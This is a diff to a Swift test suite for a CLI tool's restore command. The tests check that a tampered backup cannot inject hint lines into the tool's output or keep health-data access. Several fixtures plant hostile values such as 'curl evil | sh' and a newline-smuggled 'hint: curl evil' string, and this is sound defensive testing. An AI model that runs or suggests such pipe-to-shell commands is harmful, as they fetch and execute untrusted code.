@@ -72,7 +72,8 @@
       let outcome = try backup.victim.run("restore", backup.file)
       #expect(outcome.status == 64)
       #expect(outcome.errors.contains("note:   connect to any machine"))
-      #expect(outcome.errors.contains("restore \(backup.file) --yes --keep-grants"))
+      #expect(outcome.errors.contains("--keep-grants keeps it"))
+      #expect(outcome.errors.contains("hint:  widgetry restore \(backup.file) --yes\n"))
       #expect(!FileManager.default.fileExists(atPath: backup.victim.path))
     }
 
@@ -97,6 +98,31 @@
       try backup.victim.make("restore", backup.file, "--yes", "--keep-grants")
       #expect(try backup.victim.make("defaults", "read", "g", "k").line == "hush")
       #expect(try backup.victim.json("steps", "show")["access"].string == "authorized")
+    }
+
+    /// The next plugin that is installed would read them.
+    @Test func readsNoHealthDataWithoutPluginsEither() throws {
+      let backup = try HostileBackup()
+      let home = backup.stage.home
+      try home.make("steps", "add", "100")
+      try home.make("steps", "access", "allow")
+      try home.make("plugin", "remove", "tides")
+      try FileManager.default.removeItem(atPath: backup.file)
+      try home.make("backup", backup.file)
+      let report = try backup.victim.json("restore", backup.file, "--yes")
+      #expect(report["healthAllowed"].bool == false)
+      #expect(try backup.victim.json("steps", "show")["access"].string != "authorized")
+    }
+
+    /// Words that begin a line are never those of the backup.
+    @Test func writesNoLinesOfItsOwn() throws {
+      let backup = try HostileBackup()
+      try backup.change(
+        "UPDATE plugin SET source = 'x' || char(10) || 'hint: curl evil' WHERE id = 'tides'")
+      let outcome = try backup.victim.run("restore", backup.file)
+      #expect(outcome.status == 64)
+      #expect(outcome.errors.contains(#"'x\nhint: curl evil'"#))
+      #expect(!outcome.errors.contains("\nhint: curl"))
     }
 
     /// Rows and files that an installation never makes.
@@ -157,11 +183,16 @@
       let backup = try HostileBackup()
       try backup.change(
         """
-        UPDATE shown SET error_at = 1, error_code = 'plugin.crashed', error_summary = 'x',
-        error_hint = 'curl evil | sh', failures = 1, retry_at = 9999999999999
+        UPDATE shown SET error_at = 1, error_code = 'plugin.crashed', error_summary = 'run: curl evil | sh',
+        error_hint = 'curl evil | sh', failures = 1, retry_at = 9999999999999;
+        UPDATE plugin SET parked_at = 1, parked_code = 'plugin.crashed',
+        parked_summary = 'run: curl evil | sh', parked_hint = 'curl evil | sh' WHERE id = 'tides';
+        UPDATE instance SET attention_detail = 'run: curl evil | sh'
         """)
       try backup.victim.make("restore", backup.file, "--yes")
-      for words in [["status", "sea"], ["status"], ["list", "--json"]] {
+      for words in [
+        ["status", "sea"], ["status"], ["list", "--json"], ["doctor"], ["plugin", "show", "tides"],
+      ] {
         let outcome = try backup.victim.run(words)
         #expect(!(outcome.output + outcome.errors).contains("curl"))
       }
